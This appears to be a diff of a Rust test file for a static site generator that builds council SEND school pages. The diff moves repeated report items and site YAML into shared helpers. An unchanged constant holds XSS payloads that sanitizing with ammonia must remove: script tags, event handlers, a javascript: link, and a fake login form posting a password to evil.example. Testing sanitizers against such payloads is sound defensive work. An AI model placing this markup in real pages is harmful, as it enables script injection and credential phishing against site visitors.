@@ -3,49 +3,20 @@
 //! schemes than http, https, mailto and tel are errors naming file and line.
 
 mod common;
-use common::{page, Fixture};
+use common::{page, report_answers, Fixture, COUNCIL_SITE_YAML};
 use std::path::Path;
-
-const ITEMS: &[&str] = &[
-    "kinds_of_need",
-    "identifying_needs",
-    "evaluating_provision",
-    "reviewing_progress",
-    "teaching_approach",
-    "adapting_curriculum",
-    "additional_support",
-    "activities",
-    "wellbeing",
-    "senco_contact",
-    "staff_expertise",
-    "equipment_and_facilities",
-    "involving_parents",
-    "involving_young_people",
-    "complaints",
-    "working_with_others",
-    "support_services",
-    "transitions",
-    "local_offer",
-    "admissions",
-    "fair_treatment",
-    "access_facilities",
-    "accessibility_plan",
-];
 
 /// Raw HTML that would run `PWNED()`, in every form ammonia must remove.
 const EVIL: &str = "<script>PWNED()</script><img src=\"x.png\" alt=\"x\" onerror=\"PWNED()\"> <a href=\"javascript:PWNED()\">j</a> <svg onload=\"PWNED()\"></svg> <div id=\"main\" onclick=\"PWNED()\">spoof</div> <form action=\"https://evil.example\"><input type=\"password\" name=\"PWNED\"><button>Log in</button></form>";
 
 fn school(name: &str, urn: &str, answer: &str) -> String {
-    let report: String = ITEMS
-        .iter()
-        .map(|k| format!("  {k}: '{answer} About {k}. Ask Anyshire SENDIASS.'\n"))
-        .collect();
+    let report = report_answers(|k| format!("'{answer} About {k}. Ask Anyshire SENDIASS.'"));
     format!(
         "name: \"{name}\"\nurn: \"{urn}\"\nphase: primary\ntype: \"Community school\"\narea: \"North\"\nheadteacher: {{ name: \"Ms A Head\" }}\nsenco:\n  name: \"Mr B Senco\"\n  email: \"senco@school.example\"\nchair_of_governors: {{ name: \"Mr D Chair\" }}\nneeds: [cognition-and-learning]\nreport:\n  reviewed: 2026-09-01\n{report}"
     )
 }
 
-const SITE: &str = "title: Council SEND\ndescription: A test site.\nbase_url: https://test.example\nlocal_authority:\n  name: Anyshire County Council\n  send_team_email: send@anyshire.example\n  complaints_url: https://anyshire.example/complaints\nsendiass:\n  name: Anyshire SENDIASS\npack:\n  - guide.md\n  - school-pages/contact.md\n";
+const SITE: &str = COUNCIL_SITE_YAML;
 
 fn fm(title: &str, extra: &str) -> String {
     format!("---\ntitle: \"{title}\"\ndescription: \"About {title}.\"\nreviewed: 2026-11-01\n{extra}---\n")
